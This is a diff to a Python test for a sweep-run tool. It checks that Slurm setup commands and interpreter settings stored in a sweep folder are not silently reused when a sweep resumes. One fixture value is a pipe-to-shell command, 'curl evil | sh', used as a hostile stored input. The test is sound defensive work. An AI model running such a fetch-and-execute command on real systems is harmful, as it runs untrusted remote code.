@@ -1,5 +1,7 @@
 """rnnchaos sweep run: which launcher goes on with a sweep."""
 
+import re
+
 import pytest
 from rich.console import Console
 
@@ -32,16 +34,19 @@ def go_on(sweep, *words, n_jobs=None, retry_failed=False, detach=False):
     )
 
 
-def test_without_words_as_the_sweep_was_trained_last(sweep, launched):
+def test_without_words_no_job_says_what_the_folder_says(sweep, launched):
     go_on(sweep)
-    record(sweep, Submission("7", ((0,),), SlurmOptions(partition="gpu")))
-    go_on(sweep, detach=True)
+    asked = SlurmOptions(partition="gpu", setup=("curl evil | sh",), python="evil")
+    record(sweep, Submission("7", ((0,),), asked))
+    again = f"type rnnchaos sweep run {sweep.path} hydra/launcher=slurm hydra.launcher.partition=gpu"
+    with pytest.raises(ConfigError, match=re.escape(again)) as refused:
+        go_on(sweep, detach=True)
+    assert "hydra.launcher.setup=… hydra.launcher.python=…, or hydra/launcher=local" in str(refused.value)
+    assert "evil" not in str(refused.value)
     go_on(sweep, n_jobs=3)
-    assert [launcher for launcher, _ in launched] == [
-        LocalLauncher(),
-        SlurmLauncher(detach=True, options=SlurmOptions(partition="gpu")),
-        LocalLauncher(n_jobs=3),
-    ]
+    go_on(sweep, "hydra/launcher=slurm")
+    local, *_, slurm = (launcher for launcher, _ in launched)
+    assert (local, slurm.options.setup, slurm.options.python) == (LocalLauncher(), (), None)
 
 
 def test_words_choose_the_launcher_and_its_settings(sweep, launched):
